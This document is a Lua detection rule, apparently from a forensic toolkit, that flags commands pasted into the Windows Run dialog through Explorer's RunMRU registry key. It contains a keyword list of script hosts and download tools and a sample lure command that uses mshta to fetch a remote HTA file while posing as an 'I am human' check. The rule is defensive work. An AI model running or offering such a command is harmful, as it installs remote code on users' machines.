-- What was typed, or pasted, into the Run dialog is remembered by Explorer. A web page that asks its reader to paste a
-- command there leaves this trace.

local memory = require "kaiseki.detect.memory"
local places = require "kaiseki.detect.places"

local RUNNERS = {
    "powershell", "pwsh", "mshta", "cmd /", "cmd.exe /", "curl", "wscript", "cscript", "rundll32", "regsvr32",
    "bitsadmin", "certutil", "msiexec", "conhost", "ssh ", "iex", "invoke-",
}

local function is_pasted(data)
    local folded = data:lower()
    for _, runner in ipairs(RUNNERS) do
        if folded:find(runner, 1, true) then return places.has_url(folded) or #folded > 60 end
    end
    return false
end

-- Explorer remembers a command when it starts it, a little before or after.
local AT_ONCE = 100000000 -- ten seconds, in ticks

local told = memory.of_case()

local function started_by(pasted)
    local words = pasted.data:lower():gsub([[\1$]], ""):match "^%S+%s+(.*)$"
    for _, child in ipairs(words and pasted.process.children or {}) do
        local near = child.start_time and math.abs(child.start_time - pasted.time) <= AT_ONCE
        if near and (child.command_line or ""):lower():find(words, 1, true) then return child end
    end
    return nil
end

rule {
    id = "execution.run-dialog",
    title = "Command pasted into the Run dialog",
    severity = "high",
    attack = { "T1204.004" },
    description = "The list of commands given in the Run dialog gains one that fetches or runs something by a script "
        .. "host.",
    references = { "https://attack.mitre.org/techniques/T1204/004/" },
    false_positives = { "Administrators who run long commands this way." },
    author = "kaiseki",
    match = operation:is "RegSetValue" & result:is "SUCCESS" & path:contains [[\Explorer\RunMRU\]],
    on_event = function(event, case)
        local data = event.registry.data or ""
        if not is_pasted(data) then return end
        local list = told(case)
        list[#list + 1] = { process = event.process, data = data, time = event.time }
        case:finding { process = event.process, key = data, event = event }
    end,
    on_finish = function(case)
        for _, pasted in ipairs(told(case)) do
            local child = started_by(pasted)
            if child and child.first_event then
                case:finding { process = pasted.process, key = pasted.data, event = case:event(child.first_event) }
            end
        end
    end,
    finding = function(finding)
        return { "run-from-dialog", command = (finding.key:gsub([[\1$]], "")) }
    end,
    examples = {
        match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ",
              ["registry.data"] = [[mshta https://203.0.113.9/verify.hta # I am human\1]] },
        },
        no_match = {
            { operation = "RegSetValue", ["process.name"] = "explorer.exe",
              path = [[HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a]],
              ["registry.type"] = "REG_SZ", ["registry.data"] = [[cmd\1]] },
        },
    },
}
